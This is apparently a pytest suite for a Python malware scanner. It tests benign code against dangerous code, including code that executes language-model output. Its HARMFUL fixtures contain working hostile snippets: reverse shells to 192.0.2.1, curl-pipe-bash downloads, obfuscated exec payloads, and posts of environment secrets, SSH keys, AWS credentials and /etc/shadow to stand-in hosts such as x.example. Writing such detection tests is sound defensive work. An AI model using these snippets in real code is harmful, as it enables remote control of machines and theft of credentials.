"""What is said of code: harm in many disguises, and nothing about what programs do every day."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bartizan.scan.artefacts.result import Verdict
from tests.scan.artefacts.support import examined, fired

HARMFUL = {
    "answer as command": """
import requests, subprocess
r = requests.get('https://c2.example').json()
subprocess.run(r['c'], shell=True)
""",
    "answer by get": """
import requests, os
os.system(requests.get('https://c2.example').json().get('c'))
""",
    "socket as command": """
import socket, subprocess
s = socket.socket()
s.connect(('192.0.2.1', 4))
while 1:
    subprocess.check_output(s.recv(99).decode(), shell=True)
""",
    "kept in an object": """
import requests
class M:
    def __init__(self):
        self.c = requests.get('https://x.example').text
    def go(self):
        exec(self.c)
""",
    "returned": """
import urllib.request
def get(u):
    return urllib.request.urlopen(u).read()
def go():
    exec(compile(get('https://x.example'), 'x', 'exec'))
""",
    "saved, run": """
import urllib.request, subprocess, sys
t = 'x.py'
open(t, 'wb').write(urllib.request.urlopen('https://x.example').read())
subprocess.Popen([sys.executable, t])
""",
    "copied, run": """
import urllib.request, shutil, os
with open('/tmp/run.sh', 'wb') as f:
    shutil.copyfileobj(urllib.request.urlopen('https://x.example'), f)
os.system('sh /tmp/run.sh')
""",
    "saved, imported": """
import urllib.request, importlib.util
urllib.request.urlretrieve('https://x.example', 'mod_a.py')
importlib.util.spec_from_file_location('a', 'mod_a.py')
""",
    "shell downloads": """
import subprocess
subprocess.run(['bash', '-c', 'curl -fsSL https://x.example/i | bash'])
""",
    "shell downloads, f-string": """
import os
u = 'https://x.example/i.sh'
os.system(f'curl {u} | bash')
""",
    "reversed": """
exec(')1(tnirp'[::-1])
""",
    "exclusive or": """
d = [106, 110]
exec(''.join(chr(x ^ 7) for x in [110, 106, 119, 104]))
""",
    "rot13": """
import codecs
exec(codecs.decode('vzcbeg bf', 'rot13'))
""",
    "hexadecimal": """
exec(bytes.fromhex('7072696e74283129').decode())
""",
    "code object": """
import types, marshal, base64
types.FunctionType(marshal.loads(base64.b64decode(b'aaaa')), globals())()
""",
    "table of built-ins": """
__builtins__.__dict__['ex' + 'ec']('import os')
""",
    "globals": """
globals()['__builtins__'].__dict__['eval']('1 + 1')
""",
    "inside code": """
exec('import base64;exec(base64.b64decode("cHJpbnQoMSk="))')
""",
    "all classes": """
x = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen']
""",
    "environment, chosen": """
import os, urllib.request, json
d = {k: v for k, v in os.environ.items() if 'KEY' in k}
urllib.request.urlopen('https://x.example', data=json.dumps(d).encode())
""",
    "environment, listed": """
import os, requests
d = {}
for k in ['AWS_SECRET_ACCESS_KEY', 'OPENAI_API_KEY', 'HF_TOKEN']:
    d[k] = os.environ.get(k)
requests.post('https://x.example', json=d)
""",
    "environment, at exit": """
import atexit, os, requests
@atexit.register
def bye():
    requests.post('https://x.example', data=str(os.environ))
""",
    "environment, later": """
import httpx, os
async def go():
    async with httpx.AsyncClient() as c:
        await c.post('https://x.example', json={'e': dict(os.environ)})
""",
    "keys, walked": """
import os, requests
d = os.path.expanduser('~/.ssh')
for f in os.listdir(d):
    with open(os.path.join(d, f), 'rb') as h:
        requests.post('https://x.example', files={'f': h})
""",
    "by name": """
import socket
socket.gethostbyname(open('/etc/shadow').read()[:30] + '.x.example')
""",
    "by mail": """
import smtplib, os
s = smtplib.SMTP('x')
s.sendmail('a', 'b', open(os.path.expanduser('~/.aws/credentials')).read())
""",
    "shell on a socket": """
import socket, subprocess
s = socket.socket()
s.connect(('192.0.2.1', 9))
subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno())
""",
}


@pytest.mark.parametrize("name", HARMFUL)
def test_harm(name: str) -> None:
    assert examined(HARMFUL[name], "x.py").verdict is Verdict.DANGEROUS


_SOCKET = "import socket, os, subprocess\ns = socket.socket()\ns.connect(('192.0.2.1', 9))\n"


@pytest.mark.parametrize(
    "ends",
    [
        "for n in range(3):\n    os.dup2(s.fileno(), n)\n",
        "[os.dup2(s.fileno(), n) for n in (0, 1, 2)]\n",
        "list(map(lambda n: os.dup2(s.fileno(), n), (0, 1, 2)))\n",
        "os.dup2(s.fileno(), 0)\n",
    ],
)
def test_ends_of_a_connection(ends: str) -> None:
    assert "code-opens-shell" in fired(examined(f"{_SOCKET}{ends}subprocess.call(['/bin/sh', '-i'])\n", "x.py"))
    other = f"{_SOCKET}new = 7\nos.dup2(s.fileno(), new)\nsubprocess.call(['ls'])\n"
    assert fired(examined(other, "x.py")) == set()


ORDINARY = {
    "key of a service": """
import os, requests
k = os.environ['OPENAI_API_KEY']
requests.post('https://api.example', headers={'Authorization': 'Bearer ' + k}, json={'m': os.getenv('MODEL')})
""",
    "environment for a program": """
import os, subprocess
env = dict(os.environ)
env['A'] = '1'
subprocess.run(['make'], env=env)
""",
    "setting of the environment": """
import os, requests
conf = dict(os.environ)
requests.post(conf['URL'], json={'region': conf.get('REGION')})
""",
    "token from its file": """
import requests
from pathlib import Path
t = (Path.home() / '.cache/huggingface/token').read_text()
requests.get('https://huggingface.co/api', headers={'authorization': f'Bearer {t}'})
""",
    "weights": """
import requests
open('w.bin', 'wb').write(requests.get('https://x.example/w.bin').content)
""",
    "archive": """
import urllib.request, subprocess
urllib.request.urlretrieve('https://x.example/a.tar', 'a.tar')
subprocess.run(['tar', 'xf', 'a.tar'])
""",
    "address of a clone": """
import requests, subprocess
u = requests.get('https://api.example').json()['clone_url']
subprocess.run(['git', 'clone', u])
""",
    "picture": """
import base64, requests
open('a.png', 'wb').write(base64.b64decode(requests.get('https://x.example').json()['b64']))
""",
    "packages": """
import subprocess, sys
subprocess.check_call([sys.executable, '-m', 'pip', 'install', '-r', 'requirements.txt'])
""",
    "key file of ssh": """
import os, paramiko
paramiko.SSHClient().connect('h', key_filename=os.path.expanduser('~/.ssh/id_rsa'))
""",
    "plug-ins": """
import importlib
for n in ['a', 'b']:
    importlib.import_module('plugins.' + n)
""",
    "generated class": """
exec('class X: pass')
ns = {}
exec(f'def f({1}): pass', ns)
""",
    "subclasses": """
class B: pass
for c in B.__subclasses__():
    c()
""",
    "dispatch": """
import os
T = {'a': os.getcwd}
T['a']()
getattr(os, 'get' + 'cwd')()
""",
    "decoded data": """
import base64, json, subprocess
c = json.loads(base64.b64decode(x))
subprocess.run(['tool', c['name']])
""",
    "server": """
import socket, subprocess
s = socket.socket()
s.connect(('a', 1))
subprocess.run(['ls'], stdout=subprocess.PIPE)
""",
}


@pytest.mark.parametrize("name", ORDINARY)
def test_what_programs_do(name: str) -> None:
    assert examined(ORDINARY[name], "x.py").verdict is Verdict.SAFE


CLIENTS = {
    "openai": """
from openai import OpenAI
out = OpenAI().chat.completions.create(model='m', messages=[]).choices[0].message.content
""",
    "responses": """
import openai
out = openai.OpenAI().responses.create(model='m', input='x').output_text
""",
    "anthropic": """
import anthropic
out = anthropic.Anthropic().messages.create(model='m', messages=[]).content[0].text
""",
    "google": """
from google import genai
out = genai.Client().models.generate_content(model='m', contents='x').text
""",
    "litellm": """
import litellm
out = litellm.completion(model='m', messages=[]).choices[0].message.content
""",
    "langchain": """
from langchain_openai import ChatOpenAI
out = ChatOpenAI().invoke('x').content
""",
    "transformers": """
from transformers import pipeline
out = pipeline('text-generation')('x')[0]['generated_text']
""",
    "stream": """
from openai import OpenAI
out = ''
for p in OpenAI().chat.completions.create(stream=True):
    out += p.choices[0].delta.content
""",
    "through a function": """
from openai import OpenAI
c = OpenAI()
def ask(q):
    return c.chat.completions.create(messages=[q]).choices[0].message.content
out = ask('x')
""",
}


@pytest.mark.parametrize("name", CLIENTS)
def test_what_a_model_says_is_followed(name: str) -> None:
    assert "code-runs-model-output" in fired(examined(CLIENTS[name] + "eval(out)\n", "x.py"))
    run = CLIENTS[name] + "import subprocess\nsubprocess.run(f'run {out}', shell=True)\n"
    assert "code-runs-model-output" in fired(examined(run, "x.py"))
    asked = CLIENTS[name] + "db.cursor().execute(f'select {out}')\n"
    assert "code-queries-model-output" in fired(examined(asked, "x.py"))
    assert fired(examined(CLIENTS[name] + "print(out)\nimport ast\nast.literal_eval(out)\n", "x.py")) <= {
        "code-unpinned-model"
    }


def test_lines_are_those_of_the_file() -> None:
    (found,) = examined("\n\nimport os\nos.system('curl https://x.example/a | sh')\n", "x.py").findings
    assert (found.place.line, found.place.column) == (4, 1)


def test_a_secret_is_never_shown() -> None:
    key = "ghp_" + "8Kq2vT5xZr1LmN7bWc4YdF6hJs9PaE0uG3Ri"
    (found,) = examined(f"k = '{key}'\n", "x.py").findings
    assert found.rule == "code-holds-secret"
    assert key not in found.evidence


def test_lines_of_path_files_that_are_run() -> None:
    harm = "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n/some/folder\n"
    assert examined(harm, "x.pth").verdict is Verdict.DANGEROUS
    assert examined("import os; os.system('id')\n", "x.pth").verdict is Verdict.UNKNOWN
    assert examined("import _virtualenv\n", "x.pth").verdict is Verdict.SAFE


def test_what_is_no_python() -> None:
    assert fired(examined("x = (\n", "x.py")) == {"malformed-file"}
    assert fired(examined("print 'x'\n", "x.py")) == {"code-of-another-python"}
    assert fired(examined("", "x.py")) == set()


_LINES = [
    "import os, requests, base64, subprocess", "x = requests.get(y).text", "y = os.environ", "exec(x)", "x = y",
    "subprocess.run(x, shell=True)", "def f(x): return y", "y = f(x)", "requests.post(z, data=y)", "z = open(x).read()",
    "x = base64.b64decode(z)", "open(z, 'wb').write(x)", "class A: pass", "getattr(os, x)(y)", "x += z", "z = [x, y]",
]  # fmt: skip


@given(st.lists(st.sampled_from(_LINES), max_size=12))
def test_any_order_of_lines(lines: list[str]) -> None:
    assert fired(examined("\n".join([*lines, ""]), "x.py")).isdisjoint({"scanner-failed", "limit-reached"})
